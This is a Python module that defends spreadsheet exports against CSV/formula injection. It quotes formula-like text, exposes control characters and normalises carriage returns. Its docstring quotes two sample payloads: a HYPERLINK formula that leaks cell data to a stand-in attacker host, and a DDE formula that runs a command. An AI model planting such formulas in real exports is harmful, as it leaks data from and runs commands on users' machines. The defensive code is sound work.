"""Text for spreadsheet cells that a spreadsheet will never run (CWE-1236, "CSV injection").

Names, document numbers and memos come from anyone who can name a client in WORK or a customer in
QBO; the exports put them in front of the accountant's spreadsheet, which treats a cell that starts
with ``=``, ``+``, ``-`` or ``@`` as a formula (``=HYPERLINK("http://evil.example/?leak="&A1)``,
``=cmd|' /C calc'!A0``). Following OWASP's CSV-injection guidance (and ASVS 1.2.10), a text cell
that starts with one of :data:`FORMULA_TRIGGERS` is written with a single quote in front
(``'=HYPERLINK(...)``), so it is read as text and shows what was typed.

The rules, in one place for the CSV and Excel writers of ``render.py``:

* Only text is touched. Money, counts and dates are numbers or dates, never prefixed: a negative
  amount stays ``-1234.50``. A text cell that is exactly a plain decimal number (``-12.50``,
  ``-3``; how the summary writes its figures) is left alone too: a spreadsheet reads it as that
  number, which cannot run anything.
* The triggers are ``=``, ``+``, ``-``, ``@``, tab, carriage return and NUL, and their full-width
  forms (``＝``, ``＋``, ``－``, ``＠``), which some spreadsheets also accept. A trigger after
  leading spaces counts too (some programs trim them on import).
* Control characters (C0 except tab, line feed and carriage return, and DEL) cannot be stored in
  an Excel cell and have no business in a report: they are shown as their visible Unicode symbols
  (NUL as ``␀``, DEL as ``␡``), so the row is still written and the oddity can be seen.
* A carriage return inside text becomes a line feed. Python's CSV writer quotes a field holding
  its line terminator (``\n``) but not a bare ``\r``, which a spreadsheet reads as the end of the
  row: ``Acme\r=1+1`` would start a new row with a formula.
* In Excel the cell is also typed as a string (``data_type 's'``), never a formula; it keeps the
  quote too, so a workbook re-saved as CSV stays inert. The quote is visible in Excel: it marks a
  value that began like a formula.
"""

from __future__ import annotations

import re
from typing import Any, Final

import pandas as pd

from ..control_chars import NOT_LINE_CONTROLS

__all__ = ["FORMULA_TRIGGERS", "inert_frame", "inert_text", "is_formula_like", "visible_controls"]

#: First characters a spreadsheet may read as the start of a formula (or that hide one).
FORMULA_TRIGGERS: Final = frozenset("=+-@\t\r\0＝＋－＠")
_PLAIN_NUMBER: Final = re.compile(r"-?[0-9]+(?:\.[0-9]+)?", re.ASCII)


def _picture(match: re.Match[str]) -> str:
    code = ord(match.group())
    return "\u2421" if code == 0x7F else chr(0x2400 + code)


def visible_controls(text: str) -> str:
    """``text`` with each control character (see the module docstring) as its visible symbol."""
    return NOT_LINE_CONTROLS.sub(_picture, text)


def is_formula_like(text: str) -> bool:
    """Whether a spreadsheet could read ``text`` as a formula: its first character, after any
    spaces, is a trigger, and it is not a plain decimal number."""
    stripped = text.lstrip(" ")
    return bool(stripped) and stripped[0] in FORMULA_TRIGGERS and not _PLAIN_NUMBER.fullmatch(text)


def inert_text(text: str) -> str:
    """``text`` as a cell no spreadsheet runs: control characters made visible, carriage returns as
    line feeds, and a single quote in front when it starts like a formula."""
    shown = visible_controls(text).replace("\r\n", "\n").replace("\r", "\n")
    return "'" + shown if is_formula_like(text) else shown


def _inert_value(value: Any) -> Any:
    return inert_text(value) if isinstance(value, str) else value


def inert_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text columns hold :func:`inert_text`; other columns unchanged."""
    columns = {}
    for name in frame.columns:
        series = frame[name]
        if pd.api.types.is_string_dtype(series.dtype) or series.dtype == object:
            columns[name] = series.map(_inert_value, na_action="ignore")
        else:
            columns[name] = series
    return pd.DataFrame(columns, index=frame.index)
